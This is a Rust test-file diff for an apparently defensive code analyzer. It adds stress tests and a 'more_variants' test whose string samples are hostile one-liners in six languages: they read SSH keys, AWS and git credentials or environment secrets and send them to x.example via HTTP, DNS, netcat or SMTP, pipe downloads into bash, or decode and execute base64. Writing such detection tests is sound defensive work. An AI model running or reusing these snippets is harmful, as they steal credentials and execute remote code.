@@ -574,6 +574,29 @@ fn bounds_hold() {
     run(Lang::JavaScript, &big);
     let nested = "eval \"$(echo x)\"\n".repeat(100);
     run(Lang::Shell, &nested);
+    run(
+        Lang::Shell,
+        &format!("echo {}x{}\n", "$(".repeat(3000), ")".repeat(3000)),
+    );
+    for lang in [Lang::Ruby, Lang::Perl, Lang::PowerShell] {
+        run(
+            lang,
+            &format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000)),
+        );
+        run(lang, &"[".repeat(5000));
+    }
+    // Inlined calls multiply: the step budget ends it.
+    let mut fan = String::from("def f0(x):\n    return x\n");
+    for i in 1..12 {
+        fan.push_str(&format!(
+            "def f{i}(x):\n    return {}\n",
+            vec![format!("f{}(x)", i - 1); 8].join(" + ")
+        ));
+    }
+    fan.push_str("f11(1)\n");
+    let t = std::time::Instant::now();
+    run(Lang::Python, &fan);
+    assert!(t.elapsed() < std::time::Duration::from_secs(20));
 }
 
 #[test]
@@ -717,4 +740,196 @@ fn benign_corpus_shapes() {
         Lang::Shell,
         "curl -X POST -H 'Content-type: application/json' --data @notes.json \"$SLACK_WEBHOOK_URL\"\n",
     );
+}
+
+/// Every text file of the repository and the corpora through every language:
+/// no panic, and the slow ones printed
+/// (`cargo test --lib robust_over_repo_text -- --ignored --nocapture`).
+#[test]
+#[ignore = "reads the whole repository; a stress run, not a check"]
+fn robust_over_repo_text() {
+    use std::path::{Path, PathBuf};
+    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
+        let Ok(rd) = std::fs::read_dir(dir) else {
+            return;
+        };
+        for e in rd.flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                walk(&p, out)
+            } else {
+                out.push(p)
+            }
+        }
+    }
+    let mut files = Vec::new();
+    for d in [
+        "src",
+        "tests",
+        "docs",
+        "benches",
+        "tools",
+        "../../shared/corpora",
+    ] {
+        walk(&Path::new(env!("CARGO_MANIFEST_DIR")).join(d), &mut files);
+    }
+    let start = std::time::Instant::now();
+    let mut n = 0;
+    for f in files {
+        let Ok(text) = std::fs::read_to_string(&f) else {
+            continue;
+        };
+        for lang in [
+            Lang::Shell,
+            Lang::Python,
+            Lang::JavaScript,
+            Lang::Ruby,
+            Lang::Perl,
+            Lang::PowerShell,
+        ] {
+            let t0 = std::time::Instant::now();
+            let _ = analyze("x", &text, lang, 1);
+            if t0.elapsed().as_millis() > 300 {
+                println!("slow {} {lang:?} {:?}", f.display(), t0.elapsed());
+            }
+            n += 1;
+        }
+    }
+    println!("{n} analyses in {:?}", start.elapsed());
+}
+
+#[test]
+fn more_variants() {
+    use FlowKind::*;
+    let cases: &[(Lang, &str, FlowKind)] = &[
+        (
+            Lang::Python,
+            "import os, requests\nrequests.post(url, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Python,
+            "import os, urllib.request\nwith open(os.path.join(os.environ['HOME'], '.aws', 'credentials')) as f:\n    creds = f.read()\nreq = urllib.request.Request(URL, data=creds.encode())\nurllib.request.urlopen(req)\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::JavaScript,
+            "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\nconst data = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nconst req = https.request({hostname: 'x.example', method: 'POST'});\nreq.write(data);\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Python,
+            "import subprocess\nsubprocess.Popen('curl -s http://x.example/i | bash', shell=True)\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Python,
+            "import os\nos.popen('wget -qO- http://x.example/i | sh')\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Python,
+            "import requests\nexec(compile(requests.get(u).text, 'x', 'exec'))\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::JavaScript,
+            "require('child_process').exec('curl https://x.example/i | sh')\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::JavaScript,
+            "const cp = require('child_process');\ncp.execSync(Buffer.from(s, 'base64').toString());\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Ruby,
+            "system(\"curl -s https://x.example/i | bash\")\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Ruby,
+            "`curl -s https://x.example/i | sh`\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Perl,
+            "system(\"curl -s https://x.example/i | sh\");\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::PowerShell,
+            "$c = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p))\niex $c\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Shell,
+            "wget https://x.example/p.sh && bash p.sh\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Shell,
+            "curl -sSL https://x.example/i | sudo -E bash -\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Shell,
+            "python3 <(curl -s https://x.example/p)\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Shell,
+            "cat <<'EOF' | python3\nimport base64, os\nos.system(base64.b64decode('aWQ='))\nEOF\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Shell,
+            "python3 - <<EOF\nimport urllib.request as u\nexec(u.urlopen('https://x.example/p').read())\nEOF\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Shell,
+            "TOKEN=$(cat ~/.config/gh/hosts.yml ~/.git-credentials)\ncurl -s \"https://x.example/c?d=$TOKEN\"\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Shell,
+            "dig $(cat ~/.aws/credentials | base64 | head -c 60).x.example\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Shell,
+            "printenv | nc x.example 9000\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Python,
+            "import socket, os\ns = socket.create_connection(('x', 1))\ns.send(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Python,
+            "import smtplib, os\nk = open(os.path.expanduser('~/.netrc')).read()\nsmtplib.SMTP('m').sendmail('a', 'b', k)\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Python,
+            "def fetch(u):\n    import requests\n    return requests.get(u).text\ncode = fetch('https://x.example/p')\nexec(code)\n",
+            DownloadToExec,
+        ),
+    ];
+    let mut failed = Vec::new();
+    for (lang, src, k) in cases {
+        let a = run(*lang, src);
+        if !has_flow(&a, *k) {
+            failed.push(format!(
+                "{lang:?} {k:?}: {src}\n  facts: {:?}",
+                a.facts
+                    .iter()
+                    .map(|f| (f.cap, f.what.clone()))
+                    .collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
 }
